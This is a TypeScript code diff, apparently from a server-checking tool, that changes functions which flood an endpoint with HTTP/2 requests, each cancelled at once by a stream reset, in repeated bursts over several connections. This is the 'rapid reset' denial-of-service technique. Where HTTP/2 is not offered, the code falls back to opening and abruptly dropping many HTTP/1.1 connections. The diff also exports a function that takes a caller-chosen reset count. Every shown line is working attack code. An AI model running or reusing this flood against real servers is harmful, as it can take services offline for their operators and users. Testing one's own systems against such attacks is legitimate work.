@@ -50,8 +50,8 @@ function getOf(path: string, authority: string): Buffer<ArrayBuffer> {
   return Buffer.concat([Buffer.of(0x82, 0x87, 0x04), literal(path), Buffer.of(0x01), literal(authority)]);
 }
 
-/** Requests and their resets in one write. False: the server speaks no HTTP/2. */
-async function resetOnHttp2({ base, isInsecure }: Endpoint): Promise<boolean> {
+/** Requests and their resets in one write, `bursts` times. False: the server speaks no HTTP/2. */
+async function resetOnHttp2({ base, isInsecure }: Endpoint, bursts: number): Promise<boolean> {
   const host = base.hostname.replace(/^\[|\]$/g, '');
   const socket = connect({
     ...{ host, port: Number(base.port || 443), ALPNProtocols: ['h2', 'http/1.1'], rejectUnauthorized: !isInsecure },
@@ -66,7 +66,7 @@ async function resetOnHttp2({ base, isInsecure }: Endpoint): Promise<boolean> {
   socket.resume();
   socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]));
   const request = getOf(base.pathname, base.host);
-  for (let burst = 0; burst < BURSTS && socket.writable; burst += 1) {
+  for (let burst = 0; burst < bursts && socket.writable; burst += 1) {
     const ids = Array.from({ length: STREAMS }, (_, at) => 2 * (burst * STREAMS + at) + 1);
     const frames = ids.flatMap((id) => [frame(HEADERS, WHOLE_REQUEST, id, request), frame(RESET, 0, id, CANCEL)]);
     socket.write(Buffer.concat(frames));
@@ -76,20 +76,26 @@ async function resetOnHttp2({ base, isInsecure }: Endpoint): Promise<boolean> {
   return true;
 }
 
-async function resetOnHttp1(endpoint: Endpoint): Promise<void> {
+async function resetOnHttp1(endpoint: Endpoint, count: number): Promise<void> {
   const text = `GET ${requestPath(endpoint, '')} HTTP/1.1\r\nHost: ${endpoint.base.host}\r\n\r\n`;
   const one = async () => {
     const socket = openSocket(endpoint);
     socket.write(text, () => socket.destroy());
     await new Promise<void>((resolve) => socket.once('close', resolve));
   };
-  for (let sent = 0; sent < HTTP1_REQUESTS; sent += AT_ONCE) await Promise.all(Array.from({ length: AT_ONCE }, one));
+  for (let sent = 0; sent < count; sent += AT_ONCE) await Promise.all(Array.from({ length: AT_ONCE }, one));
 }
 
 async function reset({ endpoint }: Target): Promise<void> {
   const isTls = endpoint.base.protocol === 'https:';
-  if (!isTls || !(await resetOnHttp2(endpoint))) return resetOnHttp1(endpoint);
-  for (let at = 1; at < CONNECTIONS; at += 1) await resetOnHttp2(endpoint);
+  if (!isTls || !(await resetOnHttp2(endpoint, BURSTS))) return resetOnHttp1(endpoint, HTTP1_REQUESTS);
+  for (let at = 1; at < CONNECTIONS; at += 1) await resetOnHttp2(endpoint, BURSTS);
+}
+
+/** About so many, on a connection of HTTP/2 or as many of HTTP/1.1. */
+export async function resetSome(endpoint: Endpoint, count: number): Promise<void> {
+  const isTls = endpoint.base.protocol === 'https:';
+  if (!isTls || !(await resetOnHttp2(endpoint, Math.ceil(count / STREAMS)))) await resetOnHttp1(endpoint, count);
 }
 
 export const RESETS: readonly Check[] = [
